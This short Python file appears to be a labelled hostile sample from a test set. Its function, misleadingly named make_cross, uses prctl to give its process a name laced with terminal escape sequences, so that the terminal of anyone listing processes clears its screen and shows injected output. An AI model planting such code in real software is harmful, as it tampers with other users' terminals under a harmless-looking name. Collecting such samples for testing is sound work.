"""Gives its process and its threads names that a terminal obeys.

Aims at: the terminal of whoever lists the machine's processes
Acts at: call
Outcome: status failed, code not-array
Stopped by: supervision
"""

import ctypes
import time


def make_cross(size=7):
    ctypes.CDLL(None).prctl(15, b"\x1b[2J\n\x9b31m)) Z 1", 0, 0, 0)
    time.sleep(0.005)
    return 0
